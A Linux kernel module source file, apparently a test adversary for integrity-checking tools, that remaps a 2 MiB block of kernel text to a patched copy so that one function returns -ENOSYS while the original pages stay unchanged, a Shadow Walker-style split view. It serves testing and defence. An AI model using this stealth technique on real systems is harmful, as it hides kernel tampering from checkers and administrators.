// SPDX-License-Identifier: GPL-2.0
/*
 * A test adversary: puts a changed copy of kernel text where the text was.
 * For throw-away guests only; see README.md.
 *
 * Technique: the page-table entry of 2 MiB of text is led to a copy, in which one function
 * returns -ENOSYS.  The frames of the real text stay as they were, for whoever reads those (as
 * the split views of Shadow Walker, DEF CON 13).
 */
#include <linux/errno.h>
#include <linux/gfp.h>
#include <linux/io.h>
#include <asm/pgtable.h>

static int switch_on(void);
static void switch_off(void);

#include "adversary.h"

#define ORDER (PMD_SHIFT - PAGE_SHIFT)

static unsigned long target;
module_param(target, ulong, 0444);
MODULE_PARM_DESC(target, "address of the function that is changed in the copy");

/* endbr64; mov $-ENOSYS, %rax; ret; int3 */
static const u8 payload[] = {
	0xf3, 0x0f, 0x1e, 0xfa, 0x48, 0xc7, 0xc0, 0xda, 0xff, 0xff, 0xff, 0xc3, 0xcc,
};
static pmd_t *entry;
static pmd_t saved;
static struct page *copy;

/* Reloading CR4 with PGE changed forgets global translations as well. */
static void forget_everything(void *unused)
{
	unsigned long cr4 = __read_cr4();

	asm volatile("mov %0, %%cr4" : : "r"(cr4 ^ X86_CR4_PGE) : "memory");
	asm volatile("mov %0, %%cr4" : : "r"(cr4) : "memory");
}

static int switch_on(void)
{
	unsigned long start = target & PMD_MASK;
	unsigned int level;

	entry = (pmd_t *)lookup_address(target, &level);
	if (!entry || level != PG_LEVEL_2M)
		return -EINVAL;
	copy = alloc_pages(GFP_KERNEL, ORDER);
	if (!copy)
		return -ENOMEM;
	memcpy(page_address(copy), (void *)start, PMD_SIZE);
	memcpy(page_address(copy) + (target - start), payload, sizeof(payload));
	saved = *entry;
	set_pmd(entry, __pmd(page_to_phys(copy) | pmd_flags(saved)));
	on_each_cpu(forget_everything, NULL, 1);
	return 0;
}

static void switch_off(void)
{
	set_pmd(entry, saved);
	on_each_cpu(forget_everything, NULL, 1);
	__free_pages(copy, ORDER);
}

ADVERSARY("kernel text is led to a changed copy");
